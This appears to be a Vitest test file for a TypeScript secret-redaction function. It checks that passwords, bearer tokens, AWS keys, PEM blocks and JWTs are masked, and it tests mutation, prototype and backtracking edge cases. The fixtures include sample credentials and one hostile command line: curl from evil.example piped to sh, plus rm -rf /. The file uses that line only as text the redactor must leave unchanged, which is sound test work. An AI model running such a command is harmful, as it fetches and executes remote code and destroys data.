import { describe, expect, it } from "vitest";
import { REDACTED, redactSecrets } from "../../redaction/free-text.ts";
import { redact, type RedactionPolicy } from "./redaction.ts";

const PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\nabc\n-----END RSA PRIVATE KEY-----";
const JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";

function deepFreeze<T>(value: T): T {
  if (typeof value === "object" && value !== null) {
    for (const item of Object.values(value)) deepFreeze(item);
    Object.freeze(value);
  }
  return value;
}

describe("redact with the default policy", () => {
  it.each([
    ["a password key", { password: "hunter2", user: "alice" }, { password: REDACTED, user: "alice" }],
    ["key spellings, any case", { Passwd: 1, client_secret: "s", APIKey: "k", "api-key": "k", api_key: "k", PRIVATE_KEY: "p" }, { Passwd: REDACTED, client_secret: REDACTED, APIKey: REDACTED, "api-key": REDACTED, api_key: REDACTED, PRIVATE_KEY: REDACTED }],
    ["token, authorization, credential, cookie, session keys", { access_token: "t", Authorization: "Basic x", credentials: ["a"], Cookie: "c", sessionId: 7 }, { access_token: REDACTED, Authorization: REDACTED, credentials: REDACTED, Cookie: REDACTED, sessionId: REDACTED }],
    ["a whole object under a matching key", { secret: { nested: { deep: "x" } }, keep: { deep: "x" } }, { secret: REDACTED, keep: { deep: "x" } }],
    ["keys inside arrays of objects", { items: [{ token: "a" }, { name: "b" }] }, { items: [{ token: REDACTED }, { name: "b" }] }],
    ["a bearer token in text", { cmd: "curl -H 'Authorization: Bearer abcDEF123456.xyz' https://x" }, { cmd: `curl -H 'Authorization: ${REDACTED}' https://x` }],
    ["an AWS access key id", { line: "key AKIAIOSFODNN7EXAMPLE used" }, { line: `key ${REDACTED} used` }],
    ["a PEM private key block", { file: `before\n${PEM}\nafter` }, { file: `before\n${REDACTED}\nafter` }],
    ["an unterminated PEM block, to the end", { file: "x -----BEGIN PRIVATE KEY-----\nMIIE and the rest" }, { file: `x ${REDACTED}` }],
    ["a JWT", { header: `jwt=${JWT};` }, { header: `jwt=${REDACTED};` }],
    ["key=value credentials in a command line", { cmd: "mysql --password=hunter2 -u root" }, { cmd: `mysql --password=${REDACTED} -u root` }],
    ["quoted key: value credentials", { text: 'config token: "abc def" end' }, { text: `config token: ${REDACTED} end` }],
    ["an unclosed quoted credential, to the end of its line", { text: "secret='abc def\nnext line" }, { text: `secret=${REDACTED}\nnext line` }],
    ["several matches in one string", { text: "AKIAIOSFODNN7EXAMPLE and AKIAIOSFODNN7EXAMPL2" }, { text: `${REDACTED} and ${REDACTED}` }],
    ["strings in arrays", ["Bearer abcdefghijkl", "fine"], [REDACTED, "fine"]],
  ])("redacts %s", (_name, input, expected) => {
    expect(redact(input)).toEqual(expected);
  });

  it.each([
    ["prose about bearer tokens", "Bearer tokens are issued by the IdP"],
    ["numbers and booleans", 42],
    ["null", null],
    ["a Falco command line without credentials", 'sh -c "curl http://evil.example/x | sh; $(rm -rf /) `id` ${IFS}"'],
    ["template syntax", "${{ event.data }} {{ .Values.secret }}"],
  ])("leaves %s alone", (_name, value) => {
    expect(redact(value)).toEqual(value);
  });

  it("never mutates its input and shares no containers with it", () => {
    const input = deepFreeze({ a: { password: "x", list: [{ token: "y" }, "Bearer abcdefghijkl"] }, b: [1, 2] });
    const before = JSON.stringify(input);
    const output = redact(input) as { a: { list: unknown[] }; b: unknown[] };
    expect(JSON.stringify(input)).toBe(before);
    expect(output).not.toBe(input);
    expect(output.b).not.toBe(input.b);
    expect(output.a.list).not.toBe(input.a.list);
  });

  it("keeps a __proto__ key as an ordinary key without touching any prototype", () => {
    const input: unknown = JSON.parse('{"__proto__":{"admin":true},"ok":1}');
    const output = redact(input) as Record<string, unknown>;
    expect(Object.getPrototypeOf(output)).toBe(Object.prototype);
    expect(Object.keys(output)).toEqual(["__proto__", "ok"]);
    expect(({} as Record<string, unknown>)["admin"]).toBeUndefined();
  });

  it("handles adversarial text that would make backtracking patterns quadratic", () => {
    const copies = 64 * 1024;
    const dashedJwtStarts = "-eyJ".repeat(copies);
    expect(redactSecrets(dashedJwtStarts)).toBe(dashedJwtStarts);
    expect(redactSecrets('token="'.repeat(copies))).toBe(`token=${REDACTED}`.repeat(copies / 2));
    expect(redactSecrets(`-----BEGIN PRIVATE KEY-----\n${"-----BEGIN PRIVATE KEY-----".repeat(copies / 8)}`)).toBe(REDACTED);
    const bearers = "Bearer x".repeat(copies);
    expect(redactSecrets(bearers)).toBe(bearers);
    expect(redactSecrets(`password=${"x".repeat(copies)}`)).toBe(`password=${REDACTED}`);
  });

  it("replaces containers nested deeper than 64 levels", () => {
    let deep: unknown = "leaf";
    for (let i = 0; i < 70; i++) deep = { a: deep };
    let cursor = redact(deep);
    let depth = 0;
    while (typeof cursor === "object" && cursor !== null) {
      cursor = (cursor as { a: unknown }).a;
      depth++;
    }
    expect(depth).toBe(64);
    expect(cursor).toBe(REDACTED);
  });
});

describe("redact with a custom policy", () => {
  const policy: RedactionPolicy = {
    keyPatterns: [/^internal$/],
    paths: ["/output_fields/proc.cmdline", "/alerts/*/annotations", "/a~1b/c~0d", ""],
  };

  it("applies paths from the root, with wildcards and JSON Pointer escapes", () => {
    const pathsOnly: RedactionPolicy = { ...policy, paths: policy.paths.filter((path) => path !== "") };
    expect(
      redact(
        {
          output_fields: { "proc.cmdline": "mysql -u root", "proc.name": "mysql" },
          alerts: [{ annotations: { a: "x" }, labels: { b: "y" } }, { annotations: "z" }],
          "a/b": { "c~d": "hidden", other: "shown" },
          internal: "gone",
        },
        pathsOnly,
      ),
    ).toEqual({
      output_fields: { "proc.cmdline": REDACTED, "proc.name": "mysql" },
      alerts: [{ annotations: REDACTED, labels: { b: "y" } }, { annotations: REDACTED }],
      "a/b": { "c~d": REDACTED, other: "shown" },
      internal: REDACTED,
    });
  });

  it("treats the empty pointer as the whole value", () => {
    expect(redact({ anything: 1 }, policy)).toBe(REDACTED);
  });

  it("does not let a global or sticky key pattern skip keys through lastIndex", () => {
    const sticky: RedactionPolicy = { keyPatterns: [/secret/g], paths: [] };
    expect(redact({ secret1: "a", secret2: "b", secret3: "c" }, sticky)).toEqual({ secret1: REDACTED, secret2: REDACTED, secret3: REDACTED });
  });
});

describe("strings", () => {
  it("are passed through redactSecrets", () => {
    expect(redact({ text: `token=abc ${JWT}` })).toEqual({ text: `token=${REDACTED} ${REDACTED}` });
  });
});
